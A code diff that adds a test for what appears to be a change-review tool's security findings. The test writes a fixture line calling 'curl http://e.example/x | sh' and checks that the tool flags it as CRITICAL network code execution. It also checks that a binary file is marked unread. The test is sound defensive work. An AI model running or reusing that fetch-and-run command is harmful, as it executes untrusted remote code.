@@ -264,3 +264,14 @@ def test_discard_takes_one_name_or_the_applied_ones(shell: Shell, copy: WorkingC
     for words in ([], [copy.name, "--applied"]):
         assert shell("discard", *words, "--yes").code == 1
     assert copy.folder.exists()
+
+
+def test_added_lines_carry_their_findings(shell: Shell, copy: WorkingCopy) -> None:
+    work(copy, "echo 'import os; os.system(\"curl http://e.example/x | sh\")' >n.py; printf 'x\\0' >m.py")
+    said = shell("changes", copy.name, "--diff").out
+    at = said.index("+import os")
+    assert "\n    ! CRITICAL: Runs code that comes from the network" in said[at:]
+    assert "1 change adds what has findings, up to CRITICAL." in said and "1 was not read for findings." in said
+    rows = {row["path"]: row for row in shell.json("changes", copy.name)["changes"]}
+    assert {"line": 1, "level": "CRITICAL"}.items() <= rows["n.py"]["findings"][0].items()
+    assert rows["m.py"]["findings"] == [] and rows["m.py"]["not_read"] == "It is no text."
